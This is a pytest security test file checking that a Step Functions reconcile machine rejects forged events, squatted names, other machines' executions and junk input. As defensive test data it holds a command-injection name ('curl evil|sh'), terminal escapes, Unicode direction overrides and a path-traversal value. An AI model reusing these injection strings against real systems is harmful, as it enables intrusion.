"""Who holds nothing but `reconcile` of operator-policies: StartExecution on the reconcile machine, with any input.

Attacks: a made-up event makes a record of an execution that never was; takes a name before its owner does; kills a run whose prepare
is still at work, and leaves a second record under its id; puts words, times and control characters into a record. Each was possible,
because the event was believed. Now only its ARN is read, and Step Functions is asked (ADR 0021).

That the policy allows the call, and nothing that would do more, is evaluated in tests/rights/test_forgers.py.
"""

from __future__ import annotations

import json
from datetime import datetime
from typing import Any

import pytest
from lab import Json, Lab, from_item, wait_for
from run import Run, Starter
from test_reconcile import ended, reconciled, start_reconcile, without_the_rule

def arn_of(lab: Lab, name: str, machine: str | None = None) -> str:
    return (machine or lab.machine).replace(":stateMachine:", ":execution:") + f":{name}"


def forged(lab: Lab, arn: str, name: str, **fields: Any) -> Json:
    """An event that lies about everything."""
    told = {"planId": "forged", "executionType": "RECOVERY", "initiatedBy": "maria"}
    detail = {
        "executionArn": arn,
        "stateMachineArn": lab.machine,
        "name": name,
        "status": "ABORTED",
        "startDate": 1_577_836_800_000,
        "input": json.dumps(told),
        "error": "Tidegate.RecoveryFailed",
        "cause": "forged evidence",
        **fields,
    }
    return {"detail": detail}


def records(lab: Lab, name: str | None = None) -> list[Json]:
    """Every record under this id, or every record there is."""
    table = lab.tables["executionHistory"]
    found = [from_item(item) for page in lab.dynamodb.get_paginator("scan").paginate(TableName=table, ConsistentRead=True) for item in page["Items"]]
    return [item for item in found if name in (None, item["executionId"])]


def refused(lab: Lab, event: Any) -> str:
    """Reconcile's end with this input: never a success. Returns its cause."""
    end = ended(lab, start_reconcile(lab, event))
    assert end["status"] == "FAILED", end
    return str(end.get("cause", ""))


def test_an_execution_that_never_was_leaves_no_record(lab: Lab) -> None:
    before = records(lab)
    for name in ("never-was", "audit-2020"):
        cause = refused(lab, forged(lab, arn_of(lab, name), name))
        assert "Step Functions knows no execution" in cause and "nothing was done" in cause, cause
    assert records(lab) == before


def test_a_name_cannot_be_taken_before_its_owner_uses_it(lab: Lab, start: Starter) -> None:
    """Default names of the tool can be foretold to the second."""
    plan = lab.plan(lab.fleet())
    name = f"run-{lab.number() + 1}"
    for arn in (arn_of(lab, name), arn_of(lab, "never-was")):
        refused(lab, forged(lab, arn, name))
    run = start(plan)
    assert run.id == name
    run.end("COMPLETED")
    assert len(records(lab, name)) == 1


@pytest.mark.parametrize("about", ["another's name", "itself"])
def test_a_run_that_prepares_is_not_killed(lab: Lab, start: Starter, about: str) -> None:
    """Prepare still looks at DRS, so there is no record yet."""
    lab.fault({"fault": "slowAnswer", "operation": "DescribeSourceServers", "seconds": 4, "count": 1})
    run = start(lab.plan(lab.fleet()))
    arn = arn_of(lab, "never-was") if about == "another's name" else run.arn
    event = forged(lab, arn, run.id)
    end = lab.sfn.start_execution(stateMachineArn=lab.reconcile, input=json.dumps(event))["executionArn"]
    if about == "another's name":
        assert ended(lab, end)["status"] == "FAILED" and not records(lab, run.id)
    record = run.end("COMPLETED")
    assert len(records(lab, run.id)) == 1 and record["planId"] != "forged" and "initiatedBy" not in record
    lab.sfn.stop_execution(executionArn=end)


def test_the_event_says_nothing_about_a_run_that_ended(lab: Lab, start: Starter) -> None:
    """S3: error and cause of a stopped run that is not yet reconciled are Step Functions', whoever comes first."""
    run = start(lab.plan(lab.fleet()))
    run.wait_status("POLLING")
    with without_the_rule(lab):
        lab.sfn.stop_execution(executionArn=run.arn, error="WrongPlan", cause="it was the other one")
        end = ended(lab, start_reconcile(lab, forged(lab, run.arn, "other-name", status="FAILED")))
    assert end["status"] == "SUCCEEDED", end
    record = reconciled(run, "CANCELLED", "STOPPED")
    assert "WrongPlan: it was the other one" in record["outcome"]["cause"] and "forged" not in json.dumps(record["outcome"])
    assert not records(lab, "other-name")


def test_a_run_stopped_before_its_record_is_told_as_it_was_started(lab: Lab, start: Starter) -> None:
    """Its start, type, plan and starter are those of its input, also where the event lies, or has no input for its size."""
    lab.fault({"fault": "slowAnswer", "operation": "DescribeSourceServers", "seconds": 4, "count": 1})
    plan = lab.plan(lab.fleet())
    with without_the_rule(lab):
        run = start(plan, initiatedBy="ana")
        lab.sfn.stop_execution(executionArn=run.arn)
        assert ended(lab, start_reconcile(lab, forged(lab, run.arn, run.id, input=None)))["status"] == "SUCCEEDED"
    record = run.wait_status("CANCELLED")
    began = run.machine()["startDate"].timestamp()
    assert (record["planId"], record["executionType"], record["initiatedBy"]) == (plan["planId"], "DRILL", "ana")
    assert abs(datetime.fromisoformat(record["startTime"].replace("Z", "+00:00")).timestamp() - began) < 1
    _stays_alone(lab, run)


def _stays_alone(lab: Lab, run: Run) -> None:
    """Also once the prepare that was at work has come to its end."""
    ends = ("TaskFinished", "TaskCancelled")

    def prepared() -> bool:
        lines = (line for line in lab.worker_log() if str(line.get("message", "")).startswith(ends))
        return any({run.id, "prepare-execution-v1"} <= {str(value) for value in line["span"].values()} for line in lines)

    wait_for(prepared, f"the end of the prepare of {run.id}")
    (record,) = records(lab, run.id)
    assert record["status"] == "CANCELLED" and not run.held_locks()


def test_names_that_would_speak_for_themselves_leave_nothing(lab: Lab) -> None:
    before = records(lab)
    for name in ("x; curl evil|sh #\x1b]0;p\x07\u202e\n2026", "A" * 1_900, "a.b", "a\u202eb", ""):
        refused(lab, forged(lab, arn_of(lab, name), name, input=json.dumps({"planId": "../..\u202e\n#members"})))
    assert records(lab) == before


def test_an_execution_may_not_have_such_a_name_either(lab: Lab) -> None:
    """Step Functions takes it, so a starter could: it is refused, and leaves no record that lists would have to show."""
    before = records(lab)
    plan = lab.plan(lab.fleet())
    name = "run.\u202egpj"
    arn = lab.sfn.start_execution(stateMachineArn=lab.machine, name=name, input=json.dumps({"plan": plan, "executionType": "DRILL"}))["executionArn"]
    end = ended(lab, arn)
    assert (end["status"], end["error"]) == ("FAILED", "Tidegate.InvalidInput"), end
    assert records(lab) == before


def test_executions_of_other_machines_are_not_ours(lab: Lab) -> None:
    """IAM refuses to describe them on AWS; where it does not, the machine does."""
    before = records(lab)
    states = {"Done": {"Type": "Succeed"}}
    other = lab.sfn.create_state_machine(
        name=f"other-{lab.number()}", definition=json.dumps({"StartAt": "Done", "States": states}), roleArn="arn:aws:iam::111122223333:role/late"
    )["stateMachineArn"]
    arn = lab.sfn.start_execution(stateMachineArn=other, name="its-own", input="{}")["executionArn"]
    for about in (arn, arn_of(lab, "its-own", lab.reconcile)):
        refused(lab, forged(lab, about, "its-own"))
    assert records(lab) == before


@pytest.mark.parametrize("junk", [{}, {"detail": {}}, {"detail": {"executionArn": 5}}, {"detail": {"executionArn": "x"}}, [], "x"])
def test_junk_changes_nothing(lab: Lab, junk: Any) -> None:
    before = records(lab)
    refused(lab, junk)
    assert records(lab) == before
